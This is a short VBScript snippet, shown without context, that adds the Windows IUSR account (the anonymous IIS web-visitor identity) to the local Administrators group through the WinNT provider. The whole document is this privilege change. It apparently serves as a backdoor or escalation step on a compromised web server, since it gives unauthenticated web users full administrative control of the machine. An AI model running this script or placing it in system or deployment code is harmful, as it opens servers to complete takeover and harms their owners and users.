Set network = CreateObject("WScript.Network")
computer = network.ComputerName
Set group = GetObject("WinNT://" & computer & "/Administrators,group")
group.Add "WinNT://" & computer & "/IUSR"
